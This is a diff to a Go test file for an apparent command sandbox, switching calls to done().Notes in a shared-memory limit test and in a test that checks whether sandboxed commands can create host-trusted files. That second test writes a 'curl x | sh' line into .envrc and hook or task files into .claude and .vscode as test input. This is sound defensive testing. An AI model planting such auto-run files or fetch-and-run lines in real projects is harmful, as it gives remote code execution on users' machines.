@@ -399,7 +399,7 @@ print("allocated")'`)
 		t.Fatal(err)
 	}
 	b, err := c.CombinedOutput()
-	notes := done()
+	notes := done().Notes
 	if err == nil || strings.Contains(string(b), "allocated") {
 		t.Fatalf("3 GiB of shared memory were touched: %v: %s", err, b)
 	}
@@ -535,7 +535,7 @@ func TestCommandCannotCreateHostTrustedFiles(t *testing.T) {
 		if out, err := c.CombinedOutput(); err != nil {
 			t.Fatalf("%v: %s", err, out)
 		}
-		return done()
+		return done().Notes
 	}
 	notes := runNotes(`mkdir -p .claude .vscode && echo '{"hooks":{}}' > .claude/settings.json && echo '{}' > .vscode/tasks.json &&
 echo 'curl x | sh' > .envrc && printf '[submodule "x"]\n' > .gitmodules`)
